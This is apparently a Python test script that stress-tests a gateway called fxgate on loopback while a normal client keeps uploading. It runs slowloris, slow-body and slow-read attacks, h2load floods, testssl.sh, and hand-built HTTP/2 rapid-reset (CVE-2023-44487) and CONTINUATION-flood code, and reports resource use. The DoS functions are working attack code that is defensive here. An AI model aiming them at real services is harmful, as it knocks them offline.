#!/usr/bin/env python3
"""Third-party attack tools against a release fxgate on loopback, each while a normal caller
keeps uploading: slowhttptest (slow headers, slow body, slow read), h2load over TLS and h2c,
HTTP/2 rapid reset and a CONTINUATION flood (crafted with the `h2` package), testssl.sh on the
TLS listener, and 1000 anonymous clients trickling `/cgi` bodies (design §9: nothing is held
for a caller not yet known). Prints a Markdown table for the docs. Run through scripts/attack,
which installs the tools. Every phase is bounded in time. FXGATE_BIN runs another build (an
older release, to compare)."""

import json
import re
import os
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import http.client

import h2.config
import h2.connection
import h2.events

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BIN = os.environ.get("FXGATE_BIN") or os.path.join(ROOT, "target", "release", "fxgate")
import selectors
KEY = "attack-caller-key-5b2f"
SECS = int(os.environ.get("FXGATE_ATTACK_SECS", "30"))
JPEG = b"\xff\xd8\xff\xe0" + os.urandom(4000)
# Anonymous clients of the `anonymous` phase (1000; above `max_inflight`'s 1024 shows what
# happened when they could take callers' places).
ANON = int(os.environ.get("FXGATE_ATTACK_ANON", "1000"))


def hash_key(key):
    out = subprocess.run([BIN, "hash-key"], input=key.encode(), capture_output=True, check=True)
    return out.stdout.decode().split()[-1]


def config(tls_dir=None):
    tls = ""
    if tls_dir:
        tls = f'tls_cert = "{tls_dir}/cert.pem"\ntls_key = "{tls_dir}/key.pem"\n'
    return f"""
[server]
listen = "127.0.0.1:0"
admin_listen = "127.0.0.1:0"
{tls}
[log]
format = "json"

[corps.default]
base_url = "sandbox"
app_id = "sandbox-app"
app_secret = "sandbox-secret"
permanent_code = "sandbox-permanent-code"
upstream_requests_per_20s = 1000000

[[clients]]
name = "attack"
key_sha256 = "{hash_key(KEY)}"
"""


class Gateway:
    def __init__(self, workdir, tls_dir=None):
        path = os.path.join(workdir, "tls.toml" if tls_dir else "plain.toml")
        with open(path, "w") as f:
            f.write(config(tls_dir))
        self.log = open(path + ".log", "w")
        self.proc = subprocess.Popen([BIN, "serve", "--config", path], stdout=subprocess.PIPE,
                                     stderr=self.log, env={**os.environ, "RUST_LOG": "warn"})
        for line in self.proc.stdout:
            try:
                ev = json.loads(line)
            except ValueError:
                continue
            if ev.get("event") == "listening":
                host, port = ev["listen"].rsplit(":", 1)
                self.port = int(port)
                self.admin = ev["admin"]
                break
        self.tls = tls_dir is not None

    def fds(self):
        return len(os.listdir(f"/proc/{self.proc.pid}/fd"))

    def rss_kib(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
        return 0

    def stop(self):
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()


class Caller(threading.Thread):
    """A well-behaved caller: one upload every 100 ms on a fresh connection, its latency
    recorded, until stopped."""

    def __init__(self, gw):
        super().__init__(daemon=True)
        self.gw, self.stop_at, self.lat, self.failed = gw, None, [], 0
        self.halt = threading.Event()

    def run(self):
        n = 0
        while not self.halt.is_set():
            n += 1
            t = time.monotonic()
            try:
                if self.gw.tls:
                    ctx = ssl._create_unverified_context()
                    c = http.client.HTTPSConnection("127.0.0.1", self.gw.port, timeout=10, context=ctx)
                else:
                    c = http.client.HTTPConnection("127.0.0.1", self.gw.port, timeout=10)
                body = JPEG + n.to_bytes(8, "big")
                c.request("POST", "/media/upload?type=image&filename=a.jpg", body,
                          {"Authorization": f"Bearer {KEY}", "Content-Type": "image/jpeg"})
                r = c.getresponse()
                r.read()
                c.close()
                if r.status != 200:
                    self.failed += 1
                else:
                    self.lat.append(time.monotonic() - t)
            except Exception:
                self.failed += 1
            self.halt.wait(0.1)

    def summary(self):
        self.halt.set()
        self.join(15)
        ok = len(self.lat)
        if not ok:
            return f"0 ok, {self.failed} failed"
        lat = sorted(self.lat)
        p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))]
        return (f"{ok} ok, {self.failed} failed, p50 {statistics.median(lat) * 1000:.1f} ms, "
                f"p99 {p99 * 1000:.1f} ms")


class PeakRss(threading.Thread):
    """Samples the gateway's RSS every 50 ms until stopped; the highest seen."""

    def __init__(self, gw):
        super().__init__(daemon=True)
        self.gw, self.peak, self.halt = gw, gw.rss_kib(), threading.Event()

    def run(self):
        while not self.halt.wait(0.05):
            self.peak = max(self.peak, self.gw.rss_kib())

    def stop(self):
        self.halt.set()
        self.join(5)
        return self.peak


def under_attack(gw, name, run):
    """Runs `run()` while a normal caller uploads; one table row."""
    caller = Caller(gw)
    caller.start()
    fds0, rss0 = gw.fds(), gw.rss_kib()
    peak = PeakRss(gw)
    peak.start()
    t = time.monotonic()
    result = run()
    took = time.monotonic() - t
    result += f"; peak RSS +{(peak.stop() - rss0) / 1024:.1f} MiB"
    served = caller.summary()
    # The attack's connections are closed; what is left must be back near where it started.
    time.sleep(1)
    row = (f"| {name} | {result} | {served} | fds {fds0} → {gw.fds()}, "
           f"RSS {rss0 // 1024} → {gw.rss_kib() // 1024} MiB | {took:.0f} s |")
    print(row, flush=True)
    return row


def slowhttptest(gw, mode):
    flags = {"slow headers": ["-H"], "slow body": ["-B"],
             "slow read": ["-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"]}[mode]
    out = subprocess.run(
        ["slowhttptest", "-c", "1000", "-i", "10", "-r", "200", "-l", str(SECS), "-s", "65536",
         "-t", "POST", "-u", f"http://127.0.0.1:{gw.port}/media/upload/message", "-p", "3"]
        + flags, capture_output=True, text=True, timeout=SECS + 120)
    text = re.sub(r"\x1b\[[0-9;]*m", "", out.stdout)
    last = {}
    for l in text.splitlines():
        if ":" in l:
            k, v = l.split(":", 1)
            if k.strip() in ("closed", "pending", "connected", "service available"):
                last[k.strip()] = v.strip()
    exit_reason = [l for l in text.splitlines() if "Exit status" in l]
    return (f"1000 connections: closed {last.get('closed', '?')}, pending {last.get('pending', '?')}, "
            f"connected {last.get('connected', '?')}; tool says service available: "
            f"{last.get('service available', '?')}"
            + (f"; {exit_reason[-1].split(':', 1)[-1].strip()}" if exit_reason else ""))


def h2load(gw, scheme):
    url = f"{scheme}://127.0.0.1:{gw.port}/media/upload?type=image&filename=h.jpg"
    with tempfile.NamedTemporaryFile(delete=False) as f:
        f.write(JPEG)
    out = subprocess.run(
        ["h2load", "-n", "20000", "-c", "32", "-m", "16", "-T", str(SECS), "-d", f.name,
         "-H", f"authorization: Bearer {KEY}", "-H", "content-type: image/jpeg", url],
        capture_output=True, text=True, timeout=SECS + 120)
    os.unlink(f.name)
    stats = [l.strip() for l in out.stdout.splitlines()
             if l.strip().startswith(("finished in", "requests:", "status codes:"))]
    return "; ".join(stats) or out.stderr.strip()[-200:]


def h2_socket(gw):
    s = socket.create_connection(("127.0.0.1", gw.port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def read_until_closed(s, conn, within):
    """Reads until the server closes or `within` seconds pass; the GOAWAY's code, if any."""
    deadline = time.monotonic() + within
    goaway = None
    s.settimeout(0.2)
    while time.monotonic() < deadline:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        try:
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = getattr(ev.error_code, "name", ev.error_code)
        except Exception:
            break
    return goaway


def rapid_reset(gw):
    """CVE-2023-44487: open streams and reset them at once, as fast as the socket takes."""
    s, conn = h2_socket(gw)
    headers = [(":method", "POST"), (":path", "/media/upload/message"), (":scheme", "http"),
               (":authority", "127.0.0.1"), ("authorization", f"Bearer {KEY}")]
    sent, deadline = 0, time.monotonic() + SECS
    try:
        while time.monotonic() < deadline and sent < 200000:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                conn.reset_stream(sid)
                sent += 1
            s.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass
    goaway = read_until_closed(s, conn, 5)
    s.close()
    return f"client wrote {sent} HEADERS + RST_STREAM pairs; fxgate answered GOAWAY {goaway}"


def continuation_flood(gw):
    """HEADERS without END_HEADERS, then CONTINUATION frames of junk headers, never ending."""
    s, conn = h2_socket(gw)
    s.sendall(conn.data_to_send())
    block = conn.encoder.encode([(":method", "POST"), (":path", "/media/upload/message"),
                                 (":scheme", "http"), (":authority", "127.0.0.1")])
    frame = lambda t, flags, payload: (len(payload).to_bytes(3, "big") + bytes([t, flags])
                                       + (1).to_bytes(4, "big") + payload)
    junk = conn.encoder.encode([("x-junk", "j" * 1000)])
    sent, deadline = 0, time.monotonic() + SECS
    try:
        s.sendall(frame(0x1, 0x0, block))
        while time.monotonic() < deadline and sent < 1 << 30:
            s.sendall(frame(0x9, 0x0, junk) * 64)
            sent += 64 * (len(junk) + 9)
    except OSError:
        pass
    goaway = read_until_closed(s, conn, 5)
    s.close()
    return (f"client wrote {sent // 1024} KiB of CONTINUATION (the tail read and discarded by the "
            f"bounded lingering close); fxgate answered GOAWAY {goaway}")


def anonymous_bodies(gw, n=1000):
    """`n` clients with no credential, each announcing a 1 MiB `/cgi` body (the passthrough's
    max_body, so fxgate must read it to look for an SDK's token), sending its first 256 KiB at
    once and then 16 bytes a second. A connection fxgate answers or closes is opened again on
    the next second's tick, so about `n` stay open. Bounded by SECS and 200 000 connections."""
    head = (b"POST /cgi/crm/v2/data/query HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Content-Type: application/json\r\nContent-Length: 1048576\r\n\r\n{\"data\":\"")
    sel = selectors.DefaultSelector()
    opened = answered = refused = 0

    def open_one():
        nonlocal opened, refused
        try:
            s = socket.create_connection(("127.0.0.1", gw.port), timeout=2)
            s.setblocking(False)
            try:
                s.send(head + b"x" * (256 * 1024))
            except BlockingIOError:
                pass
            sel.register(s, selectors.EVENT_READ)
            opened += 1
        except OSError:
            refused += 1

    for _ in range(n):
        open_one()
    deadline, tick, closed = time.monotonic() + SECS, time.monotonic(), 0
    while time.monotonic() < deadline and opened < 200000:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            answered += data.startswith(b"HTTP/")
            sel.unregister(s)
            s.close()
            closed += 1
        if time.monotonic() - tick >= 1:
            tick = time.monotonic()
            for _ in range(closed):
                open_one()
            closed = 0
            for key in list(sel.get_map().values()):
                try:
                    key.fileobj.send(b"x" * 16)
                except OSError:
                    pass
    still = len(sel.get_map())
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    sel.close()
    return (f"{opened} connections opened in all, {answered} answered "
            f"by fxgate, {still} open at the end, {refused} connects refused")


def testssl(gw):
    out = subprocess.run(
        ["testssl", "--quiet", "--color", "0", "--warnings", "off", "-p", "-U", "-S",
         f"127.0.0.1:{gw.port}"], capture_output=True, text=True, timeout=900)
    text = out.stdout
    offered = [l.split()[0] + " " + l.split()[1] for l in text.splitlines()
               if l.strip().startswith(("SSLv", "TLS 1")) and "offered" in l and "not offered" not in l]
    vulnerable = [l.strip() for l in text.splitlines() if "VULNERABLE" in l and "not vulnerable" not in l]
    return (f"protocols offered: {', '.join(offered) or '?'}; "
            f"vulnerabilities flagged: {len(vulnerable)}" + (f" ({'; '.join(vulnerable)})" if vulnerable else ""))


def main():
    only = sys.argv[1:] or None
    work = tempfile.mkdtemp(prefix="fxgate-attack-")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", f"{work}/key.pem", "-out", f"{work}/cert.pem"],
                   check=True, capture_output=True)
    plain, tls = Gateway(work), Gateway(work, tls_dir=work)
    phases = [
        ("slowhttptest slow headers (slowloris)", plain, lambda: slowhttptest(plain, "slow headers")),
        ("slowhttptest slow body (R-U-Dead-Yet)", plain, lambda: slowhttptest(plain, "slow body")),
        ("slowhttptest slow read", plain, lambda: slowhttptest(plain, "slow read")),
        ("h2load over TLS (h2, 32 connections × 16 streams)", tls, lambda: h2load(tls, "https")),
        ("h2load h2c (prior knowledge)", plain, lambda: h2load(plain, "http")),
        ("HTTP/2 rapid reset (Python h2)", plain, lambda: rapid_reset(plain)),
        ("HTTP/2 CONTINUATION flood (Python h2)", plain, lambda: continuation_flood(plain)),
        ("testssl.sh on the TLS listener", tls, lambda: testssl(tls)),
        (f"{ANON} anonymous slow /cgi bodies", plain, lambda: anonymous_bodies(plain, ANON)),
    ]
    print("| attack | what the tool reports | normal caller meanwhile (one upload / 100 ms) | fxgate before → after | time |")
    print("|---|---|---|---|---|", flush=True)
    try:
        for name, gw, run in phases:
            if only and not any(o in name for o in only):
                continue
            under_attack(gw, name, run)
    finally:
        plain.stop()
        tls.stop()


if __name__ == "__main__":
    main()
